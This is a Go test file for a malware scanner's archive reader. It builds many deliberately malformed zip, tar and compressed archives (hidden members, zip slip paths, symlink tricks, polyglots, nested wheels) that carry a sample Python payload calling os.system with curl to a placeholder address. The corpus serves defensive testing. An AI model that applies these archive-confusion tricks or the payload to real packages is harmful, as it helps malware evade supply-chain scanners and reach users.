package archive_test

import (
	"archive/tar"
	"bytes"
	"context"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/internal/archive"
)

// A hostile is one archive made to be misread.
type hostile struct {
	name   string // what is wrong
	source string // where the trick is described or was seen
	data   func() []byte
	opt    archive.Options

	status   []archive.Status // exactly these, in any order, each once or more
	warnings []archive.Kind   // exactly these likewise
	entries  []pair           // exactly these by name and content, in order
	hidden   []string         // names of the hidden ones among them
}

const evil = "import os\nos.system('curl http://192.0.2.1')\n"

var (
	good = pair{"pkg/good.py", "x = 1\n"}
	bad  = pair{"pkg/evil.py", evil}
)

// hostiles is the corpus. It also seeds the fuzzer.
func hostiles() []hostile {
	return slices.Concat(hostileDirectories(), hostileZips(), hostileTars(), hostileStreams(), hostileNames(), hostileNested())
}

// member makes an honest zip member.
func member(p pair) zmember { return zmember{name: p.name, body: p.body, method: 8} }

func TestHostile(t *testing.T) {
	for _, h := range hostiles() {
		t.Run(h.name, func(t *testing.T) {
			data := h.data()
			a, err := archive.Read(context.Background(), data, h.opt)
			require.NoError(t, err)
			require.ElementsMatch(t, h.status, statuses(a), "%v", a.Incomplete)
			require.ElementsMatch(t, h.warnings, kinds(a), "%v", a.Warnings)
			if h.entries != nil {
				require.Equal(t, h.entries, pairs(a))
			}
			var hidden []string
			for _, e := range a.Entries {
				if e.Hidden {
					hidden = append(hidden, e.Name)
				}
			}
			require.Equal(t, h.hidden, hidden)
			checkInvariants(t, a, h.opt)
		})
	}
}

func statuses(a *archive.Archive) []archive.Status {
	var out []archive.Status
	for _, r := range a.Incomplete {
		out = append(out, r.Status)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func kinds(a *archive.Archive) []archive.Kind {
	var out []archive.Kind
	for _, w := range a.Warnings {
		out = append(out, w.(*archive.Warning).Kind)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func pairs(a *archive.Archive) []pair {
	out := []pair{}
	for _, e := range a.Entries {
		out = append(out, pair{e.Name, string(e.Data)})
	}
	return out
}

func hostileDirectories() []hostile {
	end := func(at, v int) func() []byte {
		return zarchive{members: []zmember{member(good), member(bad)}, end: set32(at, v)}.bytes
	}
	both := []pair{good, bad}
	names := []string{good.name, bad.name}
	mismatch := []archive.Status{archive.DirectoryMismatch}
	empty := append([]byte("PK\x05\x06"), make([]byte, 18)...)
	return []hostile{
		{name: "end record with directory size 0", source: "CPython lists 0 files, Go 2",
			data: end(12, 0), status: mismatch, entries: both, hidden: names},
		{name: "end record with 0 entries", source: "CPython lists 2 files, Go none",
			data:   zarchive{members: []zmember{member(good), member(bad)}, end: set16(10, 0)}.bytes,
			status: mismatch, entries: both},
		{name: "end record with a directory larger than the file", source: "CPython: bad offset",
			data: end(12, 1<<30), status: mismatch, entries: both, hidden: names},
		{name: "end record with an offset behind the file", source: "zip parsers disagree on the base",
			data: end(16, 1<<30), status: mismatch, entries: both, hidden: names},
		{name: "second, empty end record appended", source: "CPython and Go list 0 files",
			data:   zarchive{members: []zmember{member(good), member(bad)}, tail: empty}.bytes,
			status: mismatch, entries: both, hidden: names},
		{name: "comment that holds a fake end record", source: "programs search from the front or from the back",
			data: zarchive{members: []zmember{member(good), member(bad)},
				comment: append(bytes.Clone(empty), "comment"...)}.bytes,
			status: mismatch, entries: both, hidden: names},
		{name: "comment that holds a whole archive", source: "the inner one is the last",
			data:     zarchive{members: []zmember{member(bad)}, comment: zipOf(good)}.bytes,
			status:   mismatch,
			warnings: nil,
			entries:  []pair{bad, good}, hidden: []string{bad.name}},
		{name: "no end record", source: "cut off",
			data:   func() []byte { b := zipOf(good, bad); return b[:bytes.Index(b, []byte("PK\x01\x02"))] },
			status: []archive.Status{archive.Truncated}, entries: both, hidden: names},
		{name: "directory without an end record", source: "cut off",
			data:   func() []byte { b := zipOf(good, bad); return b[:len(b)-22] },
			status: []archive.Status{archive.Truncated}, entries: both, hidden: names},
		{name: "64-bit end record that lies", source: "only the locator tells that it is there",
			data:   zarchive{members: []zmember{member(good), member(bad)}, end: zip64End(1 << 40)}.bytes,
			status: mismatch, entries: both, hidden: names},
		{name: "64-bit end record with too many entries", source: "memory for 2^60 entries",
			data:   zarchive{members: []zmember{member(good)}, end: zip64End(0)}.bytes,
			status: mismatch, entries: []pair{good}, hidden: []string{good.name}},
		{name: "same archive four times over", source: "seen in uploads to PyPI",
			data:     func() []byte { return bytes.Repeat(zipOf(good, bad), 4) },
			warnings: []archive.Kind{archive.HiddenMembers}, entries: both},
		{name: "two different archives one after the other", source: "zip confusion",
			data:   func() []byte { return append(zipOf(bad), zipOf(good)...) },
			status: mismatch, entries: []pair{bad, good}, hidden: []string{bad.name}},
	}
}

// zip64End puts a 64-bit end record with the given directory size and its locator
// before the end record.
func zip64End(size int) func([]byte) []byte {
	return func(end []byte) []byte {
		wide := append([]byte("PK\x06\x06"), make([]byte, 52)...)
		le32(wide, 4, 44)
		le32(wide, 36, 1<<28) // 2^60 entries in all
		le32(wide, 40, size)
		le32(wide, 44, size>>32)
		copy(wide[48:], end[16:20])
		locator := append([]byte("PK\x06\x07"), make([]byte, 16)...)
		return slices.Concat(wide, locator, end)
	}
}

func hostileZips() []hostile {
	mismatch := []archive.Status{archive.DirectoryMismatch}
	read := func(m ...zmember) func() []byte { return zarchive{members: m}.bytes }
	patched := func(p pair, local func([]byte) []byte) zmember { m := member(p); m.local = local; return m }
	central := func(p pair, patch func([]byte) []byte) zmember { m := member(p); m.central = patch; return m }
	local, _ := member(bad).headers()
	stored := zmember{name: "pkg/blob.bin", body: "blob" + string(local)}
	return []hostile{
		{name: "names differ", source: "CPython compares them on reading, Go does not",
			data:   read(patched(good, rename(30, bad.name)), member(bad)),
			status: mismatch, entries: []pair{{bad.name, good.body}, good, bad}, hidden: []string{bad.name}},
		{name: "declared larger than it is", source: "zip64 and 32-bit sizes", data: read(patched(good, set32(22, 1<<30))),
			status: []archive.Status{archive.DirectoryMismatch, archive.Corrupt}, entries: []pair{good}},
		{name: "declared smaller than it is", source: "CPython stops at the declared size",
			data: read(central(pair{"a.py", "x = 1\n" + evil}, func(b []byte) []byte {
				le32(b, 16, 0x6b47b0ac)
				return set32(24, 6)(b)
			})),
			status:  mismatch,
			entries: []pair{{"a.py", "x = 1\n" + evil}, {"a.py", "x = 1\n"}}, hidden: []string{"a.py"}},
		{name: "methods differ", source: "the local header says stored", data: read(patched(good, set16(8, 0))),
			status: mismatch, entries: []pair{{good.name, string(deflated([]byte(good.body)))}, good}, hidden: []string{good.name}},
		{name: "encryption flags differ", source: "only one view is encrypted", data: read(patched(good, set16(6, 1))),
			status: []archive.Status{archive.DirectoryMismatch, archive.Encrypted}, entries: []pair{good}},
		{name: "wrong checksum in both headers", source: "data is kept", data: read(func() zmember {
			m := patched(good, set32(14, 7))
			m.central = set32(16, 7)
			return m
		}()), status: []archive.Status{archive.Corrupt}, entries: []pair{good}},
		{name: "duplicate names", source: "first or last, programs disagree",
			data: read(member(good), member(pair{good.name, evil}), member(bad)), entries: []pair{good, {good.name, evil}, bad}},
		{name: "in the local headers only", source: "hidden from every directory", data: read(func() zmember {
			m := member(bad)
			m.noCentral = true
			return m
		}(), member(good)), status: mismatch, entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "in the central directory only", source: "nothing to read", data: read(member(good), func() zmember {
			m := member(bad)
			m.noLocal, m.central = true, set32(42, 1)
			return m
		}()), status: mismatch, entries: []pair{good}},
		{name: "data before the archive", source: "self-extracting programs, shebang lines",
			data:     zarchive{prefix: []byte("#!/usr/bin/env python3\n"), members: []zmember{member(good)}}.bytes,
			warnings: []archive.Kind{archive.PrependedData}, entries: []pair{good}},
		{name: "gap that hides a member", source: "the directory jumps over it", data: func() []byte {
			hidden := zarchive{members: []zmember{member(bad)}}.bytes()
			m := member(good)
			m.before = hidden[:bytes.Index(hidden, []byte("PK\x01\x02"))]
			return zarchive{members: []zmember{m}}.bytes()
		}, status: mismatch, entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "gap of junk", source: "alignment and signing blocks",
			data:     zarchive{members: []zmember{member(good), {name: "b.py", before: []byte("junk")}}}.bytes,
			warnings: []archive.Kind{archive.UnusedData}, entries: []pair{good, {"b.py", ""}}},
		{name: "entry that points into another's data", source: "overlap", data: func() []byte {
			m := member(bad)
			m.noLocal, m.central = true, set32(42, 30+len(stored.name)+len("blob"))
			return zarchive{members: []zmember{stored, m}}.bytes()
		}, status: mismatch, entries: []pair{{stored.name, stored.body}, bad}},
		{name: "slack behind the end of a deflate stream", source: "a header hides before the declared end", data: func() []byte {
			hidden := zarchive{members: []zmember{member(bad)}}.bytes()
			m := member(good)
			m.packed = append(deflated([]byte(good.body)), hidden[:bytes.Index(hidden, []byte("PK\x01\x02"))]...)
			return zarchive{members: []zmember{m}}.bytes()
		}, status: mismatch, entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "descriptors and no directory", source: "only inflating finds the next header", data: func() []byte {
			one, two := member(good), member(bad)
			one.descriptor, two.descriptor = true, true
			b := zarchive{members: []zmember{one, two, {name: "c.py", body: "c", descriptor: true}}}.bytes()
			return b[:bytes.Index(b, []byte("PK\x01\x02"))]
		}, status: []archive.Status{archive.Truncated}, warnings: nil,
			entries: []pair{good, bad, {"c.py", "c"}}, hidden: []string{good.name, bad.name, "c.py"}},
		{name: "symbolic link", source: "CPython writes the target as a file", data: read(
			zmember{name: "link.py", body: evil, mode: 0o120777}, member(good)),
			warnings: []archive.Kind{archive.Symlink}, entries: []pair{{"link.py", evil}, good}},
		{name: "device", source: "CPython writes a file", data: read(zmember{name: "tty", body: "x", mode: 0o020666}),
			warnings: []archive.Kind{archive.Device}, entries: []pair{{"tty", "x"}}},
		{name: "directory with content", source: "a name that ends with a slash", data: read(zmember{name: "evil.py/", body: evil}),
			entries: []pair{{"evil.py", evil}}},
		{name: "method nobody reads", source: "deflate64", data: read(zmember{name: "a.py", body: evil, method: 9}, member(good)),
			status: []archive.Status{archive.Unsupported}, entries: []pair{good}},
		{name: "deflate that breaks off", source: "damage", data: func() []byte {
			m := member(pair{"a.py", noise(500)})
			m.packed = deflated([]byte(m.body))[:300]
			return zarchive{members: []zmember{m, member(good)}}.bytes()
		}, status: []archive.Status{archive.Corrupt}, warnings: []archive.Kind{archive.UnusedData}},
		{name: "strong encryption", source: "APPNOTE section 7", data: read(zmember{name: "a.py", body: evil, flags: 1 | 64}),
			status: []archive.Status{archive.Encrypted}, entries: []pair{}},
		{name: "encrypted and too short", source: "no room for a header", data: read(zmember{name: "a.py", body: "x", flags: 1}),
			status: []archive.Status{archive.Encrypted}, entries: []pair{}},
	}
}

func hostileTars() []hostile {
	header := func(h tar.Header, body string) []byte { return tarHeaders([]tar.Header{h}, []string{body}) }
	link := func(kind byte, target string) func() []byte {
		return func() []byte {
			return tarHeaders([]tar.Header{
				{Name: "pkg/link.py", Typeflag: kind, Linkname: target},
				{Name: bad.name, Typeflag: tar.TypeReg},
				{Name: "pkg/data.txt", Typeflag: tar.TypeReg},
			}, []string{"", evil, evil})
		}
	}
	return []hostile{
		{name: "symbolic link out of the archive", source: "never followed", data: link(tar.TypeSymlink, "/etc/passwd"),
			warnings: []archive.Kind{archive.Symlink}, entries: []pair{bad, {"pkg/data.txt", evil}}},
		{name: "symbolic link and a file below it", source: "writes through the link", data: func() []byte {
			return tarHeaders([]tar.Header{{Name: "d", Typeflag: tar.TypeSymlink, Linkname: "/tmp"}, {Name: "d/evil.py"}}, []string{"", evil})
		}, warnings: []archive.Kind{archive.Symlink}, entries: []pair{{"d/evil.py", evil}}},
		{name: "hard link to a kept file", source: "nothing is missed", data: link(tar.TypeLink, bad.name),
			opt: archive.Options{Keep: keepPython}, warnings: []archive.Kind{archive.HardLink}, entries: []pair{bad}},
		{name: "hard link to a dropped file", source: "pip installs the target under the link's name",
			data: link(tar.TypeLink, "pkg/data.txt"), opt: archive.Options{Keep: keepPython},
			status: []archive.Status{archive.LinkedContent}, warnings: []archive.Kind{archive.HardLink}, entries: []pair{bad}},
		{name: "symbolic link to a dropped file", source: "likewise", data: link(tar.TypeSymlink, "./data.txt"),
			opt:    archive.Options{Keep: keepPython},
			status: []archive.Status{archive.LinkedContent}, warnings: []archive.Kind{archive.Symlink}, entries: []pair{bad}},
		{name: "symbolic links in a row to a dropped file", source: "likewise", data: func() []byte {
			return tarHeaders([]tar.Header{{Name: "data.txt"}, {Name: "b", Typeflag: tar.TypeSymlink, Linkname: "data.txt"},
				{Name: "setup.py", Typeflag: tar.TypeSymlink, Linkname: "b"}}, []string{evil, "", ""})
		}, opt: archive.Options{Keep: keepPython}, status: []archive.Status{archive.LinkedContent},
			warnings: []archive.Kind{archive.Symlink}},
		{name: "symbolic link through a linked directory", source: "likewise", data: func() []byte {
			return tarHeaders([]tar.Header{{Name: "a/data.txt"}, {Name: "b", Typeflag: tar.TypeSymlink, Linkname: "a"},
				{Name: "setup.py", Typeflag: tar.TypeSymlink, Linkname: "b/data.txt"}}, []string{evil, "", ""})
		}, opt: archive.Options{Keep: keepPython}, status: []archive.Status{archive.LinkedContent},
			warnings: []archive.Kind{archive.Symlink}},
		{name: "symbolic links in a circle", source: "what they lead to cannot be said", data: func() []byte {
			return tarHeaders([]tar.Header{{Name: "a.py", Typeflag: tar.TypeSymlink, Linkname: "b.py"},
				{Name: "b.py", Typeflag: tar.TypeSymlink, Linkname: "a.py"}}, []string{"", ""})
		}, opt: archive.Options{Keep: keepPython}, status: []archive.Status{archive.LinkedContent},
			warnings: []archive.Kind{archive.Symlink}},
		{name: "device, block device and FIFO", source: "never opened", data: func() []byte {
			return tarHeaders([]tar.Header{{Name: "c", Typeflag: tar.TypeChar}, {Name: "b", Typeflag: tar.TypeBlock},
				{Name: "f", Typeflag: tar.TypeFifo}, {Name: "a.py"}}, []string{"", "", "", "a"})
		}, warnings: []archive.Kind{archive.Device}, entries: []pair{{"a.py", "a"}}},
		{name: "unknown member type", source: "CPython reads it as a file", data: func() []byte {
			return append(tarMember("evil.py", 'Q', "00000000054", []byte(evil)[:44]), make([]byte, 1024)...)
		}, warnings: []archive.Kind{archive.UnknownType}, entries: []pair{{"evil.py", evil[:44]}}},
		{name: "two members of one name", source: "both are kept", data: func() []byte { return tarOf(good, pair{good.name, evil}) },
			entries: []pair{good, {good.name, evil}}},
		{name: "file that is also a directory", source: "no file system holds both", data: func() []byte {
			return tarOf(pair{"a", "1"}, pair{"a/b", "2"}, pair{"a/b/c", "3"})
		}, entries: []pair{{"a", "1"}, {"a/b", "2"}, {"a/b/c", "3"}}},
		{name: "members behind the end of the archive", source: "tar --ignore-zeros shows them",
			data:     func() []byte { return append(tarOf(good), tarOf(bad)...) },
			warnings: []archive.Kind{archive.HiddenMembers}, entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "members behind one block of zeros", source: "half an end of archive", data: func() []byte {
			first := tarOf(good)
			return append(append(first[:1024:1024], make([]byte, 512)...), tarOf(bad)...)
		}, status: []archive.Status{archive.Corrupt}, warnings: []archive.Kind{archive.HiddenMembers},
			entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "the same members twice over", source: "3 % of the malicious uploads to PyPI",
			data:     func() []byte { return bytes.Repeat(tarOf(good, bad), 2) },
			warnings: []archive.Kind{archive.HiddenMembers}, entries: []pair{good, bad}},
		{name: "damaged header between members", source: "CPython stops there", data: func() []byte {
			b := slices.Concat(tarOf(good)[:1024], tarOf(good), tarOf(bad))
			b[1024+148] = '7' // checksum
			return b
		}, status: []archive.Status{archive.Corrupt}, warnings: []archive.Kind{archive.HiddenMembers},
			entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "garbage behind the end", source: "flagged", data: func() []byte { return append(tarOf(good), "garbage"...) },
			warnings: []archive.Kind{archive.TrailingData}, entries: []pair{good}},
		{name: "global header that renames all", source: "CPython applies it, Go does not", data: func() []byte {
			return tarHeaders([]tar.Header{
				{Typeflag: tar.TypeXGlobalHeader, PAXRecords: map[string]string{"path": "setup.py"}},
				{Name: "notes.txt", Typeflag: tar.TypeReg}}, []string{"", evil})
		}, status: []archive.Status{archive.DirectoryMismatch},
			entries: []pair{{"notes.txt", evil}, {"setup.py", evil}}, hidden: []string{"notes.txt"}},
		{name: "size beyond the end", source: "cut off", data: func() []byte {
			return tarMember("a.py", '0', "00077777777", []byte(evil))
		}, status: []archive.Status{archive.Truncated}},
		{name: "sparse file of a terabyte", source: "holes cost no bytes", data: func() []byte { return sparse("1099511627776") },
			status: []archive.Status{archive.LimitFile, archive.LimitRatio}},
		{name: "extended header that is no number", source: "archive/tar refuses what CPython reads", data: func() []byte {
			pax := tarMember("x", 'x', "00000000020", []byte("16 mtime=garbage")[:16])
			return slices.Concat(tarOf(good)[:1024], pax, tarOf(bad))
		}, status: []archive.Status{archive.Corrupt}, warnings: []archive.Kind{archive.HiddenMembers},
			entries: []pair{bad, good}, hidden: []string{bad.name}},
		{name: "header without the ustar mark", source: "tar of 1979", data: func() []byte {
			b := header(tar.Header{Name: "a.py"}, "a")
			clear(b[257:265])
			resum(b)
			return b
		}, entries: []pair{{"a.py", "a"}}},
		{name: "no member", source: "only the end of the archive", data: func() []byte { return gz(make([]byte, 1024)) },
			status: []archive.Status{archive.Empty}, entries: []pair{}},
	}
}

// sparse makes a member with one hole of the given size.
func sparse(size string) []byte {
	records := ""
	for _, kv := range []string{"GNU.sparse.major=0", "GNU.sparse.minor=1", "GNU.sparse.name=a.py", "GNU.sparse.map=0,0",
		"GNU.sparse.numblocks=1", "GNU.sparse.size=" + size} {
		n := len(kv) + 4 // "NN " and the line feed
		records += string([]byte{byte('0' + n/10), byte('0' + n%10), ' '}) + kv + "\n"
	}
	digits := []byte("00000000000")
	for i, n := 10, len(records); n > 0; i, n = i-1, n>>3 {
		digits[i] = byte('0' + n&7)
	}
	pax := tarMember("pax", 'x', string(digits), []byte(records))
	return slices.Concat(pax, tarMember("a.py", '0', "00000000000", nil), make([]byte, 1024))
}

func hostileStreams() []hostile {
	plain := tarOf(good, pair{"pkg/noise.py", noise(3000)})
	cut := func(pack func([]byte) []byte) func() []byte {
		return func() []byte { b := pack(plain); return b[:len(b)*2/3] }
	}
	truncated := []archive.Status{archive.Truncated}
	trailing := []archive.Kind{archive.TrailingData}
	garbage := func(pack func([]byte) []byte) func() []byte {
		return func() []byte { return append(pack(tarOf(good)), "garbage behind it"...) }
	}
	two := func(pack func([]byte) []byte) func() []byte {
		return func() []byte { return append(pack(plain[:700]), pack(plain[700:])...) }
	}
	whole := []pair{good, {"pkg/noise.py", noise(3000)}}
	return []hostile{
		{name: "gzip cut off", source: "two real uploads", data: cut(gz), status: truncated},
		{name: "bzip2 cut off", source: "what was read is kept", data: cut(bz2), status: truncated},
		{name: "xz cut off", source: "likewise", data: cut(xzOf), status: truncated},
		{name: "zstd cut off", source: "likewise", data: cut(zst), status: truncated},
		{name: "gzip and garbage", source: "flagged", data: garbage(gz), warnings: trailing, entries: []pair{good}},
		{name: "bzip2 and garbage", source: "flagged", data: garbage(bz2), warnings: trailing, entries: []pair{good}},
		{name: "xz and garbage", source: "flagged", data: garbage(xzOf), warnings: trailing, entries: []pair{good}},
		{name: "zstd and garbage", source: "flagged", data: garbage(zst), warnings: trailing, entries: []pair{good}},
		{name: "gzip and zeros", source: "padding of tapes", data: func() []byte { return append(gz(tarOf(good)), 0, 0, 0) },
			entries: []pair{good}},
		{name: "two gzip members", source: "RFC 1952 allows it", data: two(gz), entries: whole},
		{name: "two bzip2 streams", source: "pbzip2 writes them", data: two(bz2), entries: whole},
		{name: "two xz streams", source: "the format allows it", data: two(xzOf), entries: whole},
		{name: "two zstd frames", source: "the format allows it", data: two(zst), entries: whole},
		{name: "gzip with a lying size", source: "the data is kept", data: func() []byte {
			b := gz(tarOf(good))
			le32(b, len(b)-4, 1<<30)
			return b
		}, status: []archive.Status{archive.Corrupt}, entries: []pair{good}},
		{name: "gzip with a damaged block", source: "block type 3 is reserved", data: func() []byte {
			b := gz(tarOf(good))
			b[10] |= 6
			return b
		}, status: []archive.Status{archive.Corrupt}},
		{name: "xz with a wrong checksum", source: "the data is kept", data: func() []byte {
			b := xzOf(tarOf(good))
			b[len(b)-12-8-8] ^= 1 // before footer, index and the block's end
			return b
		}, status: []archive.Status{archive.Corrupt}, entries: []pair{good}},
	}
}

func hostileNames() []hostile {
	name := func(source, stored, want string, warnings ...archive.Kind) hostile {
		return hostile{name: "zip name " + want, source: source, warnings: warnings, entries: []pair{{want, evil}},
			data: zarchive{members: []zmember{{name: stored, body: evil}}}.bytes}
	}
	magic := "\x00\x05\x16\x07" + noise(40)
	return []hostile{
		name("zip slip", "../../x.py", "x.py", archive.Traversal),
		name("zip slip", `..\..\y.py`, "y.py", archive.Traversal),
		name("absolute", "/etc/evil.py", "etc/evil.py", archive.AbsoluteName),
		name("absolute on Windows", `C:\evil.py`, "C:/evil.py", archive.AbsoluteName),
		name("backslashes separate", `a\b\c.py`, "a/b/c.py"),
		name("CPython ends names at a NUL", "evil.py\x00.txt", "evil.py", archive.SuspiciousName),
		name("terminal tricks", "a\x1b[2J.py", "a_[2J.py", archive.SuspiciousName),
		name("code page 437", "caf\x82.py", "café.py"),
		name("no name is left", "..", "_", archive.Traversal),
		name("our own names", "!copy1/a.py", "_!copy1/a.py"),
		{name: "invalid UTF-8", source: "flag 11 promises UTF-8", warnings: []archive.Kind{archive.SuspiciousName},
			data:    zarchive{members: []zmember{{name: "\xff.py", body: evil, flags: 1 << 11}}}.bytes,
			entries: []pair{{"_.py", evil}}},
		{name: "direction marks", source: "exe.py looks like yp.exe", warnings: []archive.Kind{archive.SuspiciousName},
			data:    zarchive{members: []zmember{{name: "\u202eexe.py", body: evil, flags: 1 << 11}}}.bytes,
			entries: []pair{{"\u202eexe.py", evil}}},
		{name: "Unicode path field", source: "Info-ZIP takes the other name", data: func() []byte {
			return zarchive{members: []zmember{{name: "a.txt", body: evil, extra: unicodePath("a.txt", "a.py")}}}.bytes()
		}, entries: []pair{{"a.py", evil}, {"a.txt", evil}}, hidden: []string{"a.py"}},
		{name: "name of 60,000 segments", source: "quadratic walks", warnings: []archive.Kind{archive.SuspiciousName},
			data:    zarchive{members: []zmember{{name: strings.Repeat("a/", 30000) + "x.py", body: evil}}}.bytes,
			entries: []pair{{strings.Repeat("a/", 63) + "x.py", evil}}},
		{name: "AppleDouble files", source: "macOS adds them", warnings: []archive.Kind{archive.AppleDouble},
			data: zarchive{members: []zmember{{name: "pkg/._a.py", body: magic}, {name: "__MACOSX/pkg/b.py", body: magic},
				member(good)}}.bytes, entries: []pair{good}},
		{name: "code that passes for AppleDouble", source: "evasion by name",
			data:    zarchive{members: []zmember{{name: "pkg/._a.py", body: evil}, {name: "__MACOSX/b.py", body: evil}}}.bytes,
			entries: []pair{{"pkg/._a.py", evil}, {"__MACOSX/b.py", evil}}},
	}
}

func hostileNested() []hostile {
	wheel := string(zipOf(bad))
	at := func(name string) pair { return pair{name, evil} }
	packed := func(body string) pair { return pair{"d/x.whl", body} }
	deep := zipOf(packed(string(zipOf(packed(string(zipOf(packed(wheel))))))))
	return []hostile{
		{name: "wheel in an sdist", source: "payload one layer down", opt: archive.Options{Keep: keepPython},
			data:    func() []byte { return gz(tarOf(good, packed(wheel))) },
			entries: []pair{good, at("d/x.whl!/" + bad.name)}},
		{name: "archive named like a picture", source: "only magic counts", opt: archive.Options{Keep: keepPython},
			data:    func() []byte { return gz(tarOf(pair{"logo.png", string(gz(tarOf(bad)))})) },
			entries: []pair{at("logo.png!/" + bad.name)}},
		{name: "picture with a zip behind it", source: "a real upload", opt: archive.Options{Keep: keepPython},
			data:     func() []byte { return gz(tarOf(pair{"logo.png", "\x89PNG" + noise(99) + wheel})) },
			warnings: []archive.Kind{archive.PrependedData}, entries: []pair{at("logo.png!/" + bad.name)}},
		{name: "four layers", source: "nesting ends at two", opt: archive.Options{Keep: keepPython},
			data: func() []byte { return deep }, status: []archive.Status{archive.LimitNesting}, entries: []pair{}},
		{name: "compressed data that is no archive", source: "benign", opt: archive.Options{Limits: archive.Limits{Nesting: -1}},
			data:    func() []byte { return tarOf(pair{"a.json.gz", string(gz([]byte(noise(2000))))}) },
			entries: []pair{{"a.json.gz", string(gz([]byte(noise(2000))))}}},
		{name: "tar with a zip behind it", source: "pip asks zipfile first", data: func() []byte { return append(gz(tarOf(good)), zipOf(bad)...) },
			status: []archive.Status{archive.Polyglot}, warnings: []archive.Kind{archive.TrailingData, archive.PrependedData},
			entries: []pair{good, bad}},
		{name: "nested archive that is cut off", source: "nothing read is not clean", opt: archive.Options{Keep: keepPython},
			data:   func() []byte { return tarOf(good, packed(wheel[:len(wheel)-30])) },
			status: []archive.Status{archive.Truncated}, warnings: []archive.Kind{archive.TrailingData},
			entries: []pair{at("d/x.whl!/" + bad.name), good},
			hidden:  []string{"d/x.whl!/" + bad.name}},
	}
}

// unicodePath is the extra field of Info-ZIP that replaces a name.
func unicodePath(stored, name string) []byte {
	field := append(make([]byte, 9), name...)
	le16(field, 0, 0x7075)
	le16(field, 2, 5+len(name))
	field[4] = 1
	le32(field, 5, int(crcOf(stored)))
	return field
}

// checkInvariants checks what holds for every reading.
func checkInvariants(t testing.TB, a *archive.Archive, opt archive.Options) {
	t.Helper()
	limit := opt.Limits.Total
	if limit == 0 {
		limit = archive.DefaultLimits().Total
	}
	var kept int64
	var paths []string
	for i, e := range a.Entries {
		kept += int64(len(e.Data))
		require.True(t, fsValid(e.Name), "%q", e.Name)
		require.True(t, fsValid(e.Path), "%q", e.Path)
		require.LessOrEqual(t, len(e.Name), 1024)
		paths = append(paths, e.Path)
		served, ok := a.FS.Entry(e.Path)
		require.True(t, ok, "%q is not served", e.Path)
		require.Same(t, &a.Entries[i], served)
	}
	require.LessOrEqual(t, kept, limit)
	require.LessOrEqual(t, a.Inflated, limit)
	// fs.Sub's Glob does not quote its directory, and TestFS's own patterns for
	// names with "]" and "^" are malformed.
	if !strings.ContainsAny(strings.Join(paths, ""), `*?[]^\`) {
		require.NoError(t, fstest.TestFS(a.FS, paths...))
	}
	if len(a.Entries) == 0 && opt.Keep == nil {
		require.NotEmpty(t, a.Incomplete, "nothing read is not clean")
	}
}
